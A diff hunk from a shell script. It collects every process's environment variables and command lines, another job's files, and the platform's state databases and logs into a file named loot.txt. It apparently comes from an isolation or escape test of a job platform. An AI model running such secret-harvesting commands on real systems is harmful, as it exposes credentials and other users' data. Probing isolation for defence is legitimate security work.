@@ -35,7 +35,8 @@ secrets="$1"; ades_pid="$2"; other_job="$3"; state="$4"
   echo "== parent environ"; tr '\0' '\n' < /proc/$PPID/environ
   echo "== every environ"; for p in /proc/[0-9]*; do tr '\0' '\n' < $p/environ; done
   echo "== every command line"; for p in /proc/[0-9]*; do tr '\0' ' ' < $p/cmdline; echo; done
-  echo "== other job"; ls -laR "$other_job" /var/lib/eopde/jobs; find "$other_job" /var/lib/eopde/jobs -type f -exec cat {} +
+  echo "== other job"; ls -laR "$other_job" /var/lib/eopde/jobs
+  find "$other_job" /var/lib/eopde/jobs -type f -exec cat {} +
   echo "== state folder"; ls -la "$state" "$state/users" "$state/ades"
   cat "$state/ades/ades.db" "$state/hub/"*.sqlite "$state/logs/"*
 } > loot.txt 2>&1
